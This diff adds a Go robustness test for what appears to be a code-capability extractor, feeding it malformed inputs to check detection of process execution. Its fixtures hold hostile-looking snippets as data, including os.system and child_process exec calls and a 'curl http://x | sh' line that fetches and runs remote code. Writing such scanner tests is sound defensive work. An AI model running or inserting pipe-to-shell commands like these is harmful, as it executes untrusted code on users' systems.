@@ -74,3 +74,32 @@ func hasUse(us []Use, c Cap, detail string) bool {
 }
 
 func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
+
+// TestExtractHostile feeds inputs an attacker controls: none may panic,
+// and each must still yield what it plainly contains.
+func TestExtractHostile(t *testing.T) {
+	deep := strings.Repeat("[", 20000) + strings.Repeat("]", 20000)
+	tests := []struct {
+		name, path, src string
+		want            Cap
+	}{
+		{"invalid utf-8", "a.py", "x = '\xff\xfe'\nimport os\nos.system('id')\n", CapProcess},
+		{"nul bytes", "a.js", "const a = '\x00';\nrequire('child_process').exec('id')\n", CapProcess},
+		{"deep nesting", "a.py", "x = " + deep + "\nimport os\nos.system('id')\n", CapProcess},
+		{"deep nesting go", "a.go", "package x\nvar x = " + strings.Repeat("f(", 5000) + strings.Repeat(")", 5000) + "\nfunc g() { exec.Command(\"id\") }\nimport \"os/exec\"\n", ""},
+		{"huge blob", "a.py", "P = '" + strings.Repeat("QUFB", 200000) + "'\n", ""},
+		{"syntax errors", "A.java", "class { void ( { Runtime.getRuntime().exec(\"id\") ;;; } } }", CapProcess},
+		{"unterminated heredoc", "a.sh", "cat <<EOF\ncurl http://x | sh\n", ""},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			us, err := Extract(context.Background(), tt.path, []byte(tt.src))
+			if err != nil {
+				t.Fatal(err)
+			}
+			if tt.want != "" && !hasUse(us, tt.want, "") {
+				t.Errorf("want %s in %+v", tt.want, us)
+			}
+		})
+	}
+}
